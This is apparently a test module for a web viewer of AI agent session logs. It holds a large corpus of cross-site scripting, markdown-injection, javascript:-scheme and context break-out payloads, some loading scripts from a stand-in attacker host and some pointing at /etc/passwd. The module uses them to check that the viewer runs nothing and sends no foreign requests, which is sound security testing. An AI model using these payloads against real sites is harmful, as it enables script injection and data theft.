// Values that try to run a script, send a request, or break out of where they are shown. Made for these tests.
import assert from "node:assert/strict";
import { foreignRequests, PNG, settled, SVG } from "./lib.mjs";

const run = "canary(1)";
const far = "http://attacker.invalid";

/** Elements that run a script, or send a request, when a browser parses them. */
const elements = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=${far}/a.js></script>`, `<script type=module>${run}</script>`,
  `<script\n>${run}</script\n>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror=${run}>`, `<img/src=x/onerror=${run}>`, `<IMG SRC=x ONERROR=${run}>`, `<img src=x onerror="${run}"`, `<img src=x:x onerror=${run}//`,
  `<img src=${far}/i.png>`, `<img srcset="${far}/i.png 1x">`, `<image src=x onerror=${run}>`, `<img src=x oNeRrOr\n=${run}>`, `<img src=x onerror\t=${run}>`,
  `<img src=x onerror=&#99;anary(1)>`, `<img src=x onerror=\u0000${run}>`, `<img\u000csrc=x\u000conerror=${run}>`, `<img src=x onerror=\`${run}\`>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><a href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`, `<svg><image href="${far}/i.png"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><desc><script>${run}</script></desc></svg>`, `<svg><title><style><!--</style><img src=x onerror=${run}>--></title></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`, `<math href="javascript:${run}">x</math>`, `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<iframe src="javascript:parent.${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src=${far}></iframe>`, `<iframe onload=${run}></iframe>`,
  `<iframe src="data:text/html,<script>parent.${run}</script>">`, `<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src="javascript:${run}">`, `<embed src=${far}/x.swf>`, `<applet code=x>`, `<frameset onload=${run}>`, `<frame src=javascript:${run}>`, `<portal src=${far}>`, `<fencedframe src=${far}>`,
  `<body onload=${run}>`, `<body onpageshow=${run}>`, `<body background=${far}/b.png>`, `<html onmouseover=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>x</button>`, `<keygen autofocus onfocus=${run}>`, `<a autofocus tabindex=0 onfocus=${run}>x</a>`,
  `<div contenteditable autofocus onfocus=${run}>`, `<details open ontoggle=${run}>x</details>`, `<dialog open onclose=${run}>`, `<video src=x onerror=${run}>`, `<video><source onerror=${run}></video>`,
  `<video poster=${far}/p.png>`, `<video src=${far}/v.mp4 autoplay>`, `<audio src=x onerror=${run}>`, `<audio src=${far}/a.mp3 autoplay>`, `<track src=${far}/t.vtt default>`, `<picture><source srcset=${far}/i.png><img></picture>`,
  `<marquee onstart=${run}>x</marquee>`, `<marquee loop=1 onfinish=${run}>x</marquee>`, `<meter onmouseover=${run}>`, `<style>@import "${far}/s.css";</style>`, `<style>*{background:url(${far}/b.png)}</style>`,
  `<style onload=${run}></style>`, `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>x</b>`, `<b style="background:url(${far}/b.png)">x</b>`, `<b style="color:red" onclick=${run}>x</b>`,
  `<b ontransitionend=${run} style="transition:all 1s">`, `<link rel=stylesheet href=${far}/s.css>`, `<link rel=prefetch href=${far}>`, `<link rel=preload as=script href=${far}/a.js>`, `<link rel=dns-prefetch href=${far}>`,
  `<link rel=preconnect href=${far}>`, `<link rel=icon href=${far}/i.ico>`, `<link rel=manifest href=${far}>`, `<link rel=modulepreload href=${far}/m.js>`, `<link rel=prerender href=${far}>`, `<link onload=${run} rel=stylesheet href=data:text/css,>`,
  `<meta http-equiv=refresh content="0;url=${far}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv="Content-Security-Policy" content="img-src *">`, `<meta http-equiv=set-cookie content=a=b>`,
  `<base href=${far}/>`, `<base target=_blank>`, `<form action=${far}><input name=a><button>x</button></form>`, `<form action=javascript:${run}><input type=submit autofocus>`, `<form id=index><input name=textContent></form>`,
  `<button formaction=javascript:${run}>x</button>`, `<isindex type=image src=1 onerror=${run}>`, `<a href=javascript:${run}>x</a>`, `<a href=${far} ping=${far}/ping>x</a>`, `<area href=javascript:${run}>`,
  `<template><script>${run}</script></template>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<slot onslotchange=${run}></slot>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<plaintext onmouseover=${run}>`, `<listing>&lt;img onerror=${run}&gt;</listing>`, `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<title><img src=x onerror=${run}></title>`, `<textarea><img title="</textarea><img src=x onerror=${run}>">`, `<table background=${far}/t.png>`, `<td background=${far}/t.png>`, `<bgsound src=${far}/b.wav>`, `<basefont onload=${run}>`,
  `<x onclick=${run} id=x tabindex=1 onfocus=${run} autofocus>`, `<x onpointerenter=${run}>x</x>`, `<x oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`, `<b popover onbeforetoggle=${run}>x</b>`,
  `<input type=image src=${far}/i.png>`, `<input onsearch=${run} type=search>`, `<object type=image/svg+xml data=${far}/x.svg>`, `<param name=src value=${far}>`, `<script type=speculationrules>{"prefetch":[{"urls":["${far}"]}]}</script>`,
  `<script type=importmap>{"imports":{"a":"${far}"}}</script>`, `<svg><filter><feImage href=${far}/i.png></filter></svg>`, `<svg><animate attributeName=href values=javascript:${run}>`, `<xss style=behavior:url(${far})>`,
];

/** What may come before a value to leave the place that it is shown in. */
const breakouts = [
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`, `' autofocus onfocus='${run}' x='`, ` onfocus=${run} autofocus tabindex=0 `,
  `\` onfocus=${run} autofocus`, `\n onfocus=${run} autofocus`, `/onfocus=${run}//`, `></pre><script>${run}</script>`, `</pre></details></article><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`,
  `</script><script>${run}</script>`, `</script ><script>${run}</script>`, `</SCRIPT><svg onload=${run}>`, `<!--</script><script>${run}</script>`, `<!--<script>`, `--><script>${run}</script>`, `--!><script>${run}</script>`, `]]><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`, `<!DOCTYPE x [<!ENTITY a "b">]>`, `</textarea><script>${run}</script>`, `</noscript><script>${run}</script>`, `</template><script>${run}</script>`,
  `</main></body></html><script>${run}</script>`, `</select><script>${run}</script>`, `</option></select><img src=x onerror=${run}>`, `</svg><script>${run}</script>`, `</math><script>${run}</script>`, `</iframe><script>${run}</script>`,
  `"}</script><script>${run}</script>`, `"};${run};//`, `';${run};//`, `\`;${run};//`, `\${${run}}`, `{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `<%= ${run} %>`, `#{${run}}`, `\\";${run};//`, `\\u003cimg src=x onerror=${run}\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u00bcscript\u00be${run}\u00bc/script\u00be`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `\u001b[31m<img src=x onerror=${run}>\u001b[0m`, `\u001b]8;;javascript:${run}\u0007click\u001b]8;;\u0007`,
  `\u001b]8;;${far}"onmouseover=${run}\u0007click\u001b]8;;\u0007`, `\u001b]8;;data:text/html,<script>${run}</script>\u001b\\click\u001b]8;;\u001b\\`, `\u001b]0;</title><script>${run}</script>\u0007`, `\u001b[38;2;1;2;3"onclick=${run}m<b>x`, `\u001bP<script>${run}</script>\u001b\\`,
  `\u001e<script>${run}</script>`, `a\u001e</article><script>${run}</script>\u001eb`, `\u0000<script>${run}</script>`, `<\u0000script>${run}</script>`, `\u2028<script>${run}</script>`, `\u202e<script>${run}</script>`, `\ufeff<script>${run}</script>`,
  `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `../../../etc/passwd`, `file:///etc/passwd`, `data:text/html,<script>${run}</script>`, `javascript:${run}`, `index`, `pane`, `tree-all`, `$(id)`, `$&$1$\`$'`,
  `-${run}-`, `*/${run}/*`, `<`, `>`, `&`, `"`, `'`, `<a`, `</`, `<!`, `&#`, `<<<<<<<<`, `\ud800<img src=x onerror=${run}>`, `${"<b>".repeat(600)}<img src=x onerror=${run}>`, `${"a".repeat(5000)}"><img src=x onerror=${run}>`,
];

/** Addresses that run a script or lead out of the page. */
const schemes = [
  `javascript:${run}`, `JavaScript:${run}`, `jAvAsCrIpT:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `java\rscript:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `\u001fjavascript:${run}`, `\u00a0javascript:${run}`, `\u200bjavascript:${run}`, `\ufeffjavascript:${run}`,
  `javascript&colon;${run}`, `javascript&#58;${run}`, `javascript&#x3a;${run}`, `&#106;avascript:${run}`, `&#x6A&#x61;vascript:${run}`, `java&Tab;script:${run}`, `java&NewLine;script:${run}`, `javascript%3A${run}`, `javascript\\:${run}`, `javascript://%0a${run}`, `javascript:/*--></script>*/${run}`,
  `vbscript:${run}`, `livescript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload=${run}>`, `data:application/xhtml+xml,<script>${run}</script>`, `DATA:text/html,x`, `blob:null/x`, `file:///etc/passwd`, `filesystem:x`,
  `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:javascript:${run}`, `mailto:x"onclick=${run}`, `http://x" onclick="${run}`, `http://x' onclick='${run}`, `https://x/><script>${run}</script>`, `//attacker.invalid/x`, `\\\\attacker.invalid\\x`, `/\\attacker.invalid`, `http:attacker.invalid`, `about:blank`, `chrome://settings`, `intent://x`, `ms-word:x`, `x:x`, `#" onclick="${run}`, `?"><script>${run}</script>`,
];

/** Markdown that a renderer may turn into something that runs. */
export const markdown = [
  ...schemes.flatMap((url) => [`[link](${url})`, `[link](<${url}>)`]),
  ...schemes.slice(0, 30).flatMap((url) => [`![image](${url})`, `[ref]: ${url}\n\n[ref]`, `<${url}>`]),
  `![remote](${far}/i.png)`, `![remote](https://attacker.invalid/i.png)`, `![remote](//attacker.invalid/i.png)`, `[![x](${far}/i.png)](javascript:${run})`, `![x](x"onerror="${run})`, `![x" onerror="${run}](x)`, `![x](x 'title" onerror="${run}')`,
  `[x](x "title\\" onmouseover=\\"${run}")`, `[x](http://a "\\"><script>${run}</script>")`, `[<script>${run}</script>](http://a)`, `[x]("onclick=${run})`, `\`\`\`"><script>${run}</script>\nx\n\`\`\``, `\`\`\`js" onmouseover="${run}\nx\n\`\`\``, `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `~~~<img src=x onerror=${run}>\n~~~`, `\`<script>${run}</script>\``, `\`\`\`\n</code></pre><script>${run}</script>\n\`\`\``, `    </pre><script>${run}</script>`, `# <img src=x onerror=${run}>`, `> <script>${run}</script>`, `- <script>${run}</script>`, `1. <svg onload=${run}>`,
  `| <img src=x onerror=${run}> | b |\n|---|---|\n| <script>${run}</script> | "><svg onload=${run}> |`, `**<img src=x onerror=${run}>**`, `~~<script>${run}</script>~~`, `<div>\n\n<script>${run}</script>\n\n</div>`, `<details><summary>x</summary>\n\n<img src=x onerror=${run}>\n\n</details>`,
  `<!-- --><script>${run}</script>`, `<!-- <img src=x onerror=${run}>`, `<?php ${run} ?>`, `<![CDATA[ <script>${run}</script> ]]>`, `[^1]\n\n[^1]: <script>${run}</script>`, `[x][y]\n\n[y]: javascript:${run} "title"`, `[javascript:${run}]`, `www.attacker.invalid"onclick="${run}`, `https://attacker.invalid/"onmouseover="${run}`,
  `<https://attacker.invalid/"onmouseover="${run}>`, `<x@y.z"onclick="${run}>`, `[a](javascript:${run} 'b')`, `[a]( javascript:${run} )`, `[a](\u0001javascript:${run})`, `\\<script>${run}\\</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `[a](&#x6A;avascript:${run})`, `[a](javas&#99;ript:${run})`, `[a\n](javascript:${run})`,
  `<a href="javascript:${run}">x</a>`, `<img src="x" onerror="${run}">`, `${"> ".repeat(300)}<img src=x onerror=${run}>`, `${"- ".repeat(300)}<script>${run}</script>`, `${"[".repeat(500)}x${"](javascript:canary(1))".repeat(500)}`, `${"*".repeat(2000)}x`, `$$<img src=x onerror=${run}>$$`, `:::<script>${run}</script>`, `{{<script>${run}</script>}}`, `---\ntitle: <script>${run}</script>\n---`,
  `<style>@import '${far}/x.css'</style>`, `<link rel="stylesheet" href="${far}">`, `- [x](javascript:${run})\n  - ![y](${far}/y.png)`, `![x][i]\n\n[i]: ${far}/ref.png`, `<picture><img src=${far}/p.png></picture>`, `Setext <script>${run}</script>\n===`, `a<br onclick=${run}>b`, `\u202e[x](javascript:${run})`,
];

/** Values of a type that no field has. */
const wrongTypes = [
  null, true, false, 0, -1, 1.5, 1e308, [], {}, [null], [`<img src=x onerror=${run}>`], { toString: `<img src=x onerror=${run}>` }, { text: `<script>${run}</script>` }, { html: `<script>${run}</script>` }, [[`"><script>${run}</script>`]],
  { length: 5 }, { __html: `<img src=x onerror=${run}>` }, { "<img src=x onerror=canary(1)>": `<img src=x onerror=${run}>` }, [{ type: "text", text: `<script>${run}</script>` }], { type: "text", text: `<script>${run}</script>` }, { content: `<svg onload=${run}>` },
  { type: "image", mimeType: `"><script>${run}</script>`, data: `"><script>${run}</script>` }, { toJSON: 1 }, { then: 1 }, { valueOf: "x", nodeType: 1, innerHTML: `<img src=x onerror=${run}>` },
];

const texts = [...new Set([...elements, ...breakouts, ...schemes, ...markdown])];
export const values = [...texts, ...wrongTypes];

/** Every value with SESSILE_WEB_LONG, else every third of them. */
export const sampled = process.env.SESSILE_WEB_LONG ? values : values.filter((_, at) => at % 3 === 0);

/** Notes every element that the page adds, and what no element of ours has. Runs in the page. */
export const watch = () => {
  const elements = new Set(
    "a article aside b blockquote br button caption circle code dd details dialog div dl dt em figcaption figure h1 h2 header hr i img li ol p pre s span strong summary table tbody td th thead time tr ul".split(" "),
  );
  const attributes = new Set(
    "alt aria-controls aria-haspopup aria-hidden aria-label aria-level aria-selected aria-expanded class hidden data-class data-image data-line data-more data-row data-type datetime disabled height href id open rel role src start style tabindex title type width".split(" "),
  );
  window.seenRows = new Set();
  window.seenLines = new Set();
  window.strange = [];
  const inspect = (root) => {
    for (const element of [root, ...root.querySelectorAll("*")]) {
      const isKnown = elements.has(element.localName) || element.matches("section#secrets");
      if (!isKnown || element.namespaceURI !== "http://www.w3.org/1999/xhtml") window.strange.push(element.outerHTML.slice(0, 200));
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name)) window.strange.push(`${name} of ${element.outerHTML.slice(0, 200)}`);
        const isOwnLink = location.protocol !== "file:" && /^\/(?!\/)/.test(value);
        if (name === "href" && !/^(https?:\/\/|mailto:|#)/i.test(value) && !isOwnLink) window.strange.push(`address ${value}`);
        const isOwnImage = isOwnLink && /^\/s\/[0-9a-f]+\/image\?row=\d+&number=\d+$/.test(value);
        if (name === "src" && !/^data:image\/(png|jpeg|gif|webp);base64,[\w+/=]*$/.test(value) && !isOwnImage) window.strange.push(`source ${value}`);
        if (name === "style" && !element.matches(".pad, .line, .spacer")) window.strange.push(`style ${value}`);
        if (name === "type" && value !== "button") window.strange.push(`type ${value}`);
      }
    }
  };
  document.addEventListener("DOMContentLoaded", () => {
    if (!document.querySelector("main .card")) return;
    new MutationObserver((records) => {
      for (const { addedNodes } of records) {
        for (const node of addedNodes) {
          if (node.nodeType !== 1) continue;
          inspect(node);
          if (node.dataset.row) window.seenRows.add(Number(node.dataset.row));
          if (node.dataset.line) window.seenLines.add(Number(node.dataset.line));
        }
      }
    }).observe(document.body, { childList: true, subtree: true });
    inspect(document.querySelector("main .card"));
    for (const article of document.querySelectorAll("article")) inspect(article);
  });
};

/** Adds entries with a value in every field that an entry of pi may have. The first has a harmless id. */
export function addEntries(s, v, at) {
  const text = typeof v === "string" ? v : JSON.stringify(v);
  const hostileId = `${text}\u0020${at}`;
  const image = { type: "image", mimeType: v, data: v, filename: v };
  const usage = { input: v, output: v, cacheRead: v, cacheWrite: v, totalTokens: v, cost: { input: v, output: v, total: v, currency: v } };
  const target = s.add({ id: `v${at}`, type: "message", message: { role: "user", content: v, timestamp: v } });
  const add = (entry) => s.lines.push({ id: `${at}.${s.lines.length}`, parentId: s.leaf, timestamp: "2026-03-01T10:00:00.000Z", ...entry }) && (s.leaf = s.lines.at(-1).id);
  s.add({ id: hostileId, type: "message", timestamp: v, message: { role: "user", content: [{ type: "text", text: v, textSignature: v }, image, { type: "image", mimeType: "image/svg+xml", data: SVG }, { type: v, text: v }, v] } });
  const call = (name, args) => ({ type: "toolCall", id: v, name, arguments: args, thoughtSignature: v });
  add({
    type: "message",
    message: {
      role: "assistant", api: v, provider: v, model: v, responseId: v, usage, stopReason: v, errorMessage: v, durationMs: v, thinkingLevel: v,
      diagnostics: [{ type: v, error: { name: v, message: v, stack: v } }, v],
      content: [
        { type: "text", text: v }, { type: "thinking", thinking: v, thinkingSignature: v }, { type: "thinking", thinking: v, redacted: true }, { type: "text", text: `before ${text}\n\n${text}` },
        call("bash", { command: v, timeout: v }), call("read", { path: v, offset: v, limit: v }), call("write", { path: v, content: v }), call("edit", { path: v, edits: [{ oldText: v, newText: `${text} new` }] }),
        call("grep", { pattern: v, path: v, glob: v }), call("find", { pattern: v, path: v }), call("ls", { path: v }), call(v, { [typeof v === "string" ? v : "key"]: v, nested: [v, { deep: v }] }), call(v, v), { ...call("bash", v), argumentsError: v },
      ],
    },
  });
  add({ type: "message", message: { role: "toolResult", toolCallId: v, toolName: v, content: [{ type: "text", text: v }, image, { type: "image", mimeType: v, data: PNG }, v], details: { diff: v, patch: v, truncation: v, fullOutputPath: v }, isError: v, usage, durationMs: v, nestedCalls: { calls: [{ id: v, name: v, arguments: { a: v }, status: v, durationMs: v, error: v }, v], complete: v } } });
  add({ type: "message", message: { role: "toolResult", toolCallId: v, toolName: "edit", content: v, details: { diff: `-1 ${text}\n+1 ${text}\n${text}` }, isError: true } });
  add({ type: "message", message: { role: "bashExecution", command: v, output: v, exitCode: v, cancelled: v, truncated: v, fullOutputPath: v, excludeFromContext: v } });
  add({ type: "message", message: { role: at % 2 ? v : "system", content: v, customType: v, summary: v } });
  add({ type: "custom_message", customType: v, content: v, display: v, details: v });
  add({ type: "compaction", summary: v, firstKeptEntryId: v, tokensBefore: v, details: { readFiles: [v], modifiedFiles: [v] }, usage });
  add({ type: "branch_summary", fromId: v, summary: v, details: { readFiles: [v, v] }, usage });
  add({ type: "model_change", provider: v, modelId: v });
  add(at % 2 ? { type: "thinking_level_change", thinkingLevel: v } : { type: "session_info", name: v });
  add({ type: "label", targetId: target, label: v });
  add(at % 2 ? { type: "usage", kind: v, provider: v, model: v, note: v, usage } : { type: "context_edit", targetId: v, replacement: { content: v } });
  add(at % 2 ? { type: "custom", customType: v, data: v } : { type: v, anything: v });
}

export function assertNothingHappened(page, what) {
  assert.deepEqual([page.seen.executed, page.seen.violations, foreignRequests(page), page.seen.errors], [[], [], [], []], what);
}

/** Opens every entry of a session, and every line of its tree; uses every key and filter. */
export async function walk(page, n) {
  await page.keyboard.press("o");
  await page.keyboard.press("s");
  await settled(page);
  await page.evaluate(async (n) => {
    const frame = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
    const size = window.groupSize;
    for (let at = 0; at < n; at++) {
      // The page draws more entries than those on the screen, so some groups are there already.
      let row = 1 + at * size;
      while (row < 1 + (at + 1) * size && window.seenRows.has(row)) row++;
      if (row === 1 + (at + 1) * size) continue;
      location.hash = `#entry-v${at}`;
      const end = performance.now() + 10000;
      do await frame();
      while (!document.getElementById(`entry-v${at}`) && performance.now() < end);
    }
    document.getElementById("filter").value = "all";
    document.getElementById("filter").dispatchEvent(new Event("change"));
    await frame();
    await frame();
    const tree = document.getElementById("tree");
    for (let y = 0; y <= tree.scrollHeight; y += tree.clientHeight) {
      tree.scrollTop = y;
      await frame();
    }
  }, n);
  for (const key of ["g", "n", "n", "p", "G", "e", "Home", "ArrowDown", "Enter", "ArrowLeft", "ArrowRight", "End", "Enter", "f", "f", "f", "f", "f", "t", "t", "o", "s", "b", "b", "d", "d", "?", "Escape"]) await page.keyboard.press(key);
  await settled(page);
}
